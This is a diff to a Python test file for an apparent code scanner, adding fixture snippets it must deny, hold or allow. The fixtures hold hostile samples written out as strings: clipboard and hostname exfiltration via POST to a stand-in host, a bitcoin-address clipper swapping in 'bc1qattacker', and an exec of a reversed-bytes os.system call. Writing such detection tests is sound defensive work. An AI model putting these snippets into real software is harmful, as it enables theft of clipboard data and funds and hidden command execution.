@@ -85,6 +85,11 @@ DENIED: dict[str, str] = {
         "import subprocess, urllib.request\nh = subprocess.check_output(['hostname'])\n"
         "urllib.request.urlopen('https://example.com/p', data=h)\n"
     ),
+    "clipboard-sent-from-a-gui-toolkit": (
+        "import tkinter, requests\nr = tkinter.Tk()\n"
+        + POST.format(data="r.clipboard_get()")
+        + "\n"
+    ),
     "git-identity": (
         "import subprocess, requests\ne = subprocess.getoutput('git config user.email')\n"
         + POST.format(data="e")
@@ -102,8 +107,21 @@ DENIED: dict[str, str] = {
     ),
 }
 
-# A command run on import holds, wherever in a dict comprehension it is written.
+# A command run on import holds, wherever in a dict comprehension it is written; so does a
+# clipper, whatever reads the clipboard, and code spelt backwards in bytes.
 HELD: dict[str, str] = {
+    "tkinter-clipper": (
+        "import re, tkinter\nr = tkinter.Tk()\nt = r.clipboard_get()\n"
+        "if re.match('^bc1[a-z0-9]{25,39}$', t):\n    r.clipboard_clear()\n"
+        "    r.clipboard_append('bc1qattacker')\n"
+    ),
+    "win32-clipboard-read": (
+        "import win32clipboard\nwin32clipboard.OpenClipboard()\n"
+        "t = win32clipboard.GetClipboardData()\n"
+    ),
+    "code-spelt-backwards-in-bytes": (
+        "exec(bytes(reversed(b')\"di\"(metsys.so;so tropmi')).decode())\n"
+    ),
     "dict-comprehension-iterable": "import os\nX = {k: 1 for k in [os.system('id')]}\n",
     "dict-comprehension-value": "import os\nX = {k: os.system(k) for k in ['id']}\n",
     "dict-comprehension-condition": "import os\nX = {k: 1 for k in 'ab' if os.system('id')}\n",
@@ -141,6 +159,10 @@ ALLOWED: dict[str, str] = {
         "import subprocess\n\n\ndef machine():\n"
         "    return subprocess.check_output(['uname', '-m']).decode().strip()\n"
     ),
+    "editor-pasting-when-asked": (
+        "import tkinter\n\n\nclass Editor(tkinter.Text):\n    def paste(self):\n"
+        "        self.insert('insert', self.clipboard_get())\n"
+    ),
     "hotkey-that-sends-nothing": (
         "from pynput import keyboard\n\n\ndef run(action):\n"
         "    with keyboard.GlobalHotKeys({'<ctrl>+<alt>+h': action}) as h:\n        h.join()\n"
@@ -154,7 +176,7 @@ def test_a_stealers_behaviour_is_denied(name: str) -> None:
 
 
 @pytest.mark.parametrize("name", sorted(HELD))
-def test_a_command_in_a_dict_comprehension_holds(name: str) -> None:
+def test_a_command_in_a_dict_comprehension_or_a_clipper_holds(name: str) -> None:
     assert _verdict(HELD[name]) is Outcome.HOLD, name
 
 
